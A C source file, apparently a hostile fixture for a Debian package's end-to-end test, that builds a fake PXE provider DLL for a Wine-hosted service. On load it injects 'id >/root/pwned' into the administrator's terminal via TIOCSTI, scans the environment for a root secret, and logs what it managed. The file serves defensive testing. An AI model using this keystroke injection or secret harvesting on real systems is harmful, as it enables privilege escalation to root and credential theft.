/*
 * A provider of somebody who has got into the service's user, for tests/e2e/debian-package.sh:
 * where an administrator's command loads it, it tries what a program of that user could do to root.
 * It types a line into the terminal of whoever started it, and takes what it can see of the
 * environment and the streams. What it did is in the file EVIL_LOG of the user's folder, a line for
 * each program. Linux below Wine is asked directly, as such a program would.
 */
#include <windows.h>

enum {
    SYS_READ = 0,
    SYS_WRITE = 1,
    SYS_OPEN = 2,
    SYS_CLOSE = 3,
    SYS_IOCTL = 16,
    SYS_SETSID = 112,
    APPEND = 0x441, /* O_WRONLY | O_CREAT | O_APPEND */
    TIOCSTI = 0x5412,
    TIOCSCTTY = 0x540e,
    TCGETS = 0x5401,
    ROOM = 65536,
};

#define EVIL_LOG "/var/lib/wdspxe/evil.log"

static long long call(long long number, long long a, long long b, long long c)
{
    long long result;

    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
    return result;
}

static long long open_file(const char *path, int flags)
{
    return call(SYS_OPEN, (long long)(INT_PTR)path, flags, 0600);
}

/* Types the line; how many of its characters got there. */
static int type_into(long long terminal)
{
    static const char line[] = "id >/root/pwned\n";
    int typed = 0;

    for (const char *at = line; *at != '\0'; at++)
        typed += call(SYS_IOCTL, terminal, TIOCSTI, (long long)(INT_PTR)at) == 0;
    return typed;
}

static int contains(const char *text, long long length, const char *word)
{
    long long size = lstrlenA(word);

    for (long long i = 0; i + size <= length; i++) {
        long long same = 0;
        while (same < size && text[i + same] == word[same])
            same++;
        if (same == size)
            return 1;
    }
    return 0;
}

/* What root had exported, as the kernel shows it to the user. */
static int sees_secret(void)
{
    static char environment[ROOM];
    long long file = open_file("/proc/self/environ", 0);
    long long length = file < 0 ? 0 : call(SYS_READ, file, (long long)(INT_PTR)environment, ROOM);

    if (file >= 0)
        call(SYS_CLOSE, file, 0, 0);
    return contains(environment, length, "ROOTS_SECRET");
}

static void attack(void)
{
    char line[128], terminal_settings[256];
    int typed = 0, terminals = 0;
    long long tty = open_file("/dev/tty", 2);

    for (long long stream = 0; stream < 64; stream++) {
        if (call(SYS_IOCTL, stream, TCGETS, (long long)(INT_PTR)terminal_settings) != 0)
            continue;
        terminals++;
        (void)call(SYS_IOCTL, stream, TIOCSCTTY, 0);
        typed += type_into(stream);
    }
    if (tty >= 0)
        typed += type_into(tty);
    wsprintfA(line, "ran: %d terminals, %d typed, tty %s, secret %s\n", terminals, typed,
              tty >= 0 ? "open" : "closed", sees_secret() ? "seen" : "hidden");
    long long log = open_file(EVIL_LOG, APPEND);
    call(SYS_WRITE, log, (long long)(INT_PTR)line, lstrlenA(line));
    call(SYS_CLOSE, log, 0, 0);
}

BOOL WINAPI DllMain(HINSTANCE instance, DWORD reason, LPVOID reserved)
{
    (void)instance;
    (void)reserved;
    if (reason == DLL_PROCESS_ATTACH)
        attack();
    return TRUE;
}

__declspec(dllexport) DWORD WINAPI PxeProviderInitialize(HANDLE provider, HKEY key);

DWORD WINAPI PxeProviderInitialize(HANDLE provider, HKEY key)
{
    (void)provider;
    (void)key;
    return ERROR_SUCCESS; /* it has what it wanted */
}
